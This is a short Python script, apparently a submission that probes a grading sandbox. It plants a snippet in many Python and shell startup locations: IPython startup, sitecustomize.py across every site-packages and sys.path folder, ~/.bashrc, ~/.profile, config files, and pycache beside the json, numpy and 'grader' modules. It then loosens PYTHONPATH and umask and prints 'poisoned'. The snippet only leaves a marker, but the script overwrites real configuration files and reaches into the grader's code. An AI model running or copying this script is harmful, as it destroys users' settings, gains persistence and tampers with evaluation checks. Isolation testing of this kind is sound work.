import json

told = json.load(open("outside.json"))

import os
import site
import sys

code = "open('/tmp/left-by-a-submission-poison', 'w').write('x'); import os; os.environ['POISON'] = '1'\n"
home = os.path.expanduser("~")
for path in (
    home + "/.ipython/profile_default/startup/00-poison.py", home + "/.ipython/extensions/poison.py",
    home + "/.local/lib/python3.11/site-packages/sitecustomize.py", home + "/.pythonrc.py",
    home + "/.keras/keras.json", home + "/.matplotlib/matplotlibrc", home + "/.torch/poison.py",
    home + "/.bashrc", home + "/.profile", home + "/.config/matplotlib/matplotlibrc",
    home + "/.jupyter/jupyter_config.py", "/tmp/sitecustomize.py", "/dev/shm/poison",
    *(folder + "/sitecustomize.py" for folder in (*site.getsitepackages(), *sys.path)),
    *(os.path.dirname(sys.modules[name].__file__) + "/__pycache__/poison.pyc"
      for name in ("json", "numpy", "grader")),
):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(code)
    except OSError:
        pass
os.environ["PYTHONPATH"] = "/tmp"
os.umask(0)
print("poisoned")
